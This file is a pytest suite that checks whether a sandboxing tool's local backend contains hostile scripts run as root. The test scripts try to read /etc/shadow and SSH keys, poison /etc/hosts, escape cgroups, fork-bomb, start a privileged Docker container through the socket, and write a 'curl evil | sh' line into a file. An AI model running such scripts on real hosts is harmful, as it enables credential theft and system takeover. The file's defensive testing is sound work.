"""A repository's code run by the local backend as root (as CI and many containers run ARK).

Each test is an attacker's script in a workspace, run with ``ark run
--backend local`` as the user would, and checks what the user would: the
secret is not in the output, the file was not written, the limit held, the
container was not started, nothing was left behind. Before bubblewrap,
``unshare --map-root-user`` mapped the run to host root and every one of
these attacks worked.
"""

from __future__ import annotations

import json
import os
import signal
import socket
import subprocess
import tempfile
import textwrap
import time
import uuid
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from support.cli import ARK, ark
from support.sandboxes import DockerSetup

pytestmark = pytest.mark.slow

MiB = 1024 * 1024
CGROUP_ROOT = Path("/sys/fs/cgroup")


@pytest.fixture(autouse=True)
def as_root() -> None:
    if os.geteuid() != 0:
        pytest.skip("these attacks are on a local backend run by root (as CI runs)")


@pytest.fixture
def repo(tmp_path: Path) -> Path:
    root = tmp_path / "repo"
    root.mkdir()
    (root / "pyproject.toml").write_text('[project]\nname = "innocent"\n')
    return root


def attack(
    repo: Path, code: str, *options: str, name: str = "evil.py", env: dict[str, str] | None = None
) -> dict[str, Any]:
    """Run the attacker's script with ``ark run --backend local``; its JSON result."""
    (repo / name).write_text(textwrap.dedent(code))
    done = ark(
        "run", name, "--backend", "local", "--format", "json", *options,
        cwd=repo, check=False, env=env,
    )  # fmt: skip
    assert done.returncode in (0, 1, 4), done.stderr
    result: dict[str, Any] = json.loads(done.stdout)
    return result


def test_a_run_cannot_read_etc_shadow(repo: Path) -> None:
    result = attack(
        repo,
        """
        try:
            print(open("/etc/shadow").read())
        except OSError as error:
            print("refused:", type(error).__name__)
        """,
    )
    assert result["outcome"] == "passed", result
    assert "root:" not in result["stdout"]
    assert result["stdout"].startswith("refused:")


def test_a_run_cannot_read_the_users_ssh_keys(repo: Path, tmp_path: Path) -> None:
    # A key of our own where the real one would be unreadable too: /root/.ssh may be empty here.
    home = tmp_path / "home"
    (home / ".ssh").mkdir(parents=True)
    secret = f"-----BEGIN OPENSSH PRIVATE KEY----- {uuid.uuid4().hex}"
    key = home / ".ssh" / "id_ed25519"
    key.write_text(secret)
    key.chmod(0o600)
    result = attack(
        repo,
        f"""
        import os
        for folder in ("/root/.ssh", {str(home / ".ssh")!r}):
            try:
                names = os.listdir(folder)
            except OSError as error:
                print(folder, "refused:", type(error).__name__)
                continue
            print(folder, "listed", names)
            for name in names:
                try:
                    print(open(os.path.join(folder, name)).read())
                except OSError:
                    pass
        """,
        env={**os.environ, "HOME": str(home)},
    )
    assert secret not in result["stdout"]
    assert "listed" not in result["stdout"], result["stdout"]


def test_a_run_cannot_write_etc(repo: Path) -> None:
    target = Path(f"/etc/ark-hostile-{uuid.uuid4().hex}")
    try:
        result = attack(repo, f"open({str(target)!r}, 'w').write('owned')\n")
        assert result["outcome"] == "failed"
        assert not target.exists()
    finally:
        target.unlink(missing_ok=True)


def test_the_runs_etc_is_arks_own_with_what_a_test_suite_asks_of_it(repo: Path) -> None:
    # requests' tests serve on "localhost": without a hosts file none could, and the
    # suite ended in a CPython error; a uid without a name fails getpass.getuser().
    # ARK's umask (a hardened 077) must not keep the files from the run's user.
    umask = os.umask(0o077)
    try:
        result = attack(
            repo,
            """
            import getpass, os, socket
            server = socket.create_server(("localhost", 0))
            port = server.getsockname()[1]
            client = socket.create_connection(("localhost", port), timeout=5)
            peer, _ = server.accept()
            client.sendall(b"ping")
            print("served", peer.recv(4).decode(), "to", getpass.getuser())
            print("etc", sorted(os.listdir("/etc")), os.readlink("/etc/localtime"))
            print("zone", os.path.exists("/etc/localtime"))
            try:
                open("/etc/hosts", "a").write("6.6.6.6 pypi.org\\n")
            except OSError as error:
                print("refused", type(error).__name__)
            """,
        )
    finally:
        os.umask(umask)
    assert "served ping to nobody" in result["stdout"], result
    # dateutil's tests read the local zone: UTC, as in docker's images.
    assert (
        "etc ['group', 'hosts', 'localtime', 'passwd'] /usr/share/zoneinfo/UTC" in result["stdout"]
    )
    assert "zone True" in result["stdout"]
    assert "refused" in result["stdout"]


def test_a_run_cannot_write_the_real_workspace(repo: Path) -> None:
    # The run sees its copy at the workspace's path (an editable install's .pth names it):
    # what it writes there is the copy's, thrown away with it.
    (repo / "app.py").write_text("print('the real code')\n")
    result = attack(
        repo,
        f"""
        path = {str(repo / "app.py")!r}
        open(path, "w").write("import os; os.system('curl evil | sh')")
        print(open(path).read())
        """,
    )
    assert result["outcome"] == "passed", result
    assert "curl evil" in result["stdout"]
    assert (repo / "app.py").read_text() == "print('the real code')\n"
    written = {path.name for path in repo.iterdir()} - {".ark"}  # ARK's own records
    assert written == {"app.py", "evil.py", "pyproject.toml"}


def test_a_run_cannot_write_proc_sys(repo: Path) -> None:
    # Writing the value that is already there: a no-op if the attack worked, so the host is safe.
    knob = Path("/proc/sys/vm/swappiness")
    before = knob.read_text()
    result = attack(
        repo,
        f"""
        knob = {str(knob)!r}
        value = open(knob).read()
        with open(knob, "w") as handle:
            handle.write(value)
        print("wrote", knob)
        """,
    )
    assert result["outcome"] == "failed"
    assert "wrote" not in result["stdout"]
    assert knob.read_text() == before


ESCAPE = """
    import glob, os
    roots = glob.glob("/sys/fs/cgroup/cgroup.procs") + glob.glob("/sys/fs/cgroup/*/cgroup.procs")
    for procs in roots:
        try:
            with open(procs, "w") as handle:
                handle.write(str(os.getpid()))
            print("escaped into", procs, flush=True)
        except OSError:
            pass
"""
"""Moves the run into each hierarchy's root cgroup that takes it, out of ARK's limits."""


def test_a_memory_hog_that_tries_to_leave_its_cgroup_is_contained_and_measured(
    repo: Path,
) -> None:
    hog = (
        ESCAPE
        + """
    hoard = []
    for step in range(1, 25):
        hoard.append(b"x" * (16 * 1024 * 1024))
        print("held", step * 16, flush=True)
    """
    )
    result = attack(repo, hog, "--memory", "128m", "--timeout", "30")
    assert "escaped" not in result["stdout"]
    held = [int(line.split()[1]) for line in result["stdout"].splitlines() if "held" in line]
    assert not held or max(held) < 128, "the run held more than its limit"
    assert result["outcome"] == "failed" and result["killed_by"] == "memory", result
    # Honest: what the kernel counted, near the limit, not the agent's own few MiB.
    assert 64 * MiB < result["peak_memory_bytes"] <= 136 * MiB, result["peak_memory_bytes"]


def test_a_fork_bomb_that_tries_to_leave_its_cgroup_is_contained(repo: Path) -> None:
    token = f"bomb-{uuid.uuid4().hex}"
    bomb = (
        ESCAPE
        + f"""
    import time
    started = 0
    for _ in range(150):
        try:
            if os.fork() == 0:
                time.sleep(30)  # {token}
                os._exit(0)
            started += 1
        except OSError:
            break
    print("started", started, flush=True)
    """
    )
    result = attack(repo, bomb, "--timeout", "20", name=f"{token}.py")
    assert "escaped" not in result["stdout"]
    assert result["stdout"].startswith("started ")
    started = int(result["stdout"].split()[1])
    assert started < 64, f"{started} processes against a limit of 64"
    assert "pids" in result["limits_hit"], result
    assert not processes_mentioning(token), "the bomb's processes outlived the run"


def processes_mentioning(token: str) -> list[int]:
    found = []
    for entry in Path("/proc").iterdir():
        if entry.name.isdigit() and int(entry.name) != os.getpid():
            try:
                if token.encode() in (entry / "cmdline").read_bytes():
                    found.append(int(entry.name))
            except OSError:
                continue
    return found


def test_a_run_cannot_start_a_container_through_the_docker_socket(
    repo: Path, docker_setup: DockerSetup
) -> None:
    token = uuid.uuid4().hex
    label = {"ark-hostile": token}
    code = f"""
        import json, socket

        def call(sock_path, method, path, body=None):
            data = json.dumps(body).encode() if body is not None else b""
            with socket.socket(socket.AF_UNIX) as conn:
                conn.connect(sock_path)
                conn.sendall(
                    f"{{method}} {{path}} HTTP/1.0\\r\\nHost: docker\\r\\n"
                    f"Content-Type: application/json\\r\\nContent-Length: {{len(data)}}\\r\\n\\r\\n"
                    .encode() + data
                )
                reply = b""
                while chunk := conn.recv(65536):
                    reply += chunk
            return reply.split(b"\\r\\n\\r\\n", 1)[1]

        for sock_path in ("/var/run/docker.sock", "/run/docker.sock"):
            try:
                created = json.loads(call(sock_path, "POST", "/containers/create", {{
                    "Image": {docker_setup.image!r},
                    "Cmd": ["sleep", "300"],
                    "Labels": {label!r},
                    "HostConfig": {{"NetworkMode": "host", "Privileged": True}},
                }}))
                call(sock_path, "POST", f"/containers/{{created['Id']}}/start")
                print("started", created["Id"])
                break
            except OSError as error:
                print(sock_path, "refused:", type(error).__name__)
    """
    try:
        result = attack(repo, code)
        assert "started" not in result["stdout"], result["stdout"]
        found = docker_setup.client.containers.list(
            all=True, filters={"label": f"ark-hostile={token}"}
        )
        assert found == []
    finally:
        for container in docker_setup.client.containers.list(
            all=True, filters={"label": f"ark-hostile={token}"}
        ):
            container.remove(force=True)


@pytest.fixture
def loopback_server() -> Iterator[socket.socket]:
    """A service on the host's loopback only, as databases and dev servers listen."""
    listener = socket.create_server(("127.0.0.1", 0))
    listener.setblocking(False)
    yield listener
    listener.close()


def test_a_run_cannot_reach_a_host_loopback_service_even_with_network(
    repo: Path, loopback_server: socket.socket
) -> None:
    port = loopback_server.getsockname()[1]
    probe = f"""
        import socket
        try:
            socket.create_connection(("127.0.0.1", {port}), timeout=3).sendall(b"hello")
            print("reached the host's service")
        except OSError as error:
            print("refused:", type(error).__name__)
    """
    for options in ((), ("--network",)):
        result = attack(repo, probe, *options)
        assert result["stdout"].startswith("refused:"), (options, result)
    with pytest.raises(BlockingIOError):
        loopback_server.accept()  # nothing from the sandbox reached the host


def sandbox_leftovers(token: str) -> tuple[list[Path], list[Path]]:
    """Scratch folders holding the token's script, and the cgroups named like them."""
    folders = [
        path.parent.parent
        for path in Path(tempfile.gettempdir()).glob(f"ark-sandbox-*/work/{token}.py")
    ]
    groups = []
    for folder in folders:
        for parent in (CGROUP_ROOT, CGROUP_ROOT / "pids", CGROUP_ROOT / "memory"):
            if (parent / folder.name).is_dir():
                groups.append(parent / folder.name)
    return folders, groups


def wait_until(condition: Any, seconds: float, what: str) -> Any:
    deadline = time.monotonic() + seconds
    while time.monotonic() < deadline:
        value = condition()
        if value:
            return value
        time.sleep(0.05)
    raise AssertionError(f"not within {seconds} s: {what}")


def test_a_killed_ark_leaves_no_run_scratch_folder_or_cgroup_behind(repo: Path) -> None:
    token = f"slow_{uuid.uuid4().hex}"
    (repo / f"{token}.py").write_text(
        "import time\nopen('started', 'w').close()\ntime.sleep(120)\n"
    )
    running = subprocess.Popen(
        [str(ARK), "run", f"{token}.py", "--backend", "local", "--timeout", "120"],
        cwd=repo,
        env={**os.environ, "ARK_DATABASE": ""},
        stdout=subprocess.DEVNULL,
        stderr=subprocess.DEVNULL,
    )
    try:
        folders, _ = wait_until(
            lambda: (
                found
                if (found := sandbox_leftovers(token))[0]
                and (found[0][0] / "work" / "started").exists()
                else None
            ),
            60,
            "the run started",
        )
    finally:
        running.send_signal(signal.SIGKILL)
        running.wait()
    # The run dies with ARK...
    wait_until(lambda: not processes_mentioning(token), 10, "the run died with ARK")
    # ...and the next ARK to start removes what the killed one left.
    ark("sandbox", "status", cwd=repo)
    assert sandbox_leftovers(token) == ([], []), "leftovers of the killed run"
    assert not any(folder.exists() for folder in folders)


def test_without_bubblewrap_the_local_backend_refuses_unless_weak_isolation_is_chosen(
    repo: Path, tmp_path: Path
) -> None:
    # Every program of the system but bwrap: a real machine without bubblewrap installed.
    bin_folder = tmp_path / "bin"
    bin_folder.mkdir()
    for system in ("/usr/local/bin", "/usr/bin", "/usr/sbin", "/bin", "/sbin"):
        for entry in Path(system).iterdir() if Path(system).is_dir() else ():
            link = bin_folder / entry.name
            if entry.name != "bwrap" and not link.exists():
                link.symlink_to(entry)
    env = {**os.environ, "PATH": str(bin_folder)}
    marker = tmp_path / "ran-on-the-host"
    code = f"open({str(marker)!r}, 'w').write('the code ran')\n"
    (repo / "evil.py").write_text(code)

    refused = ark("run", "evil.py", "--backend", "local", cwd=repo, check=False, env=env)
    assert refused.returncode == 4
    (error,) = [line for line in refused.stderr.splitlines() if line.startswith("ark: error:")]
    assert "refuses to run code without isolation" in error
    assert "apt-get install bubblewrap" in error
    assert not marker.exists()

    weak = ark(
        "run", "evil.py", "--backend", "local", "--weak-isolation",
        cwd=repo, check=False, env=env,
    )  # fmt: skip
    assert weak.returncode == 0, weak.stderr
    assert "WEAKER isolation" in weak.stderr
    status = ark("sandbox", "status", "--format", "json", cwd=repo, env=env).stdout
    assert json.loads(status)["bubblewrap"].startswith("not installed")
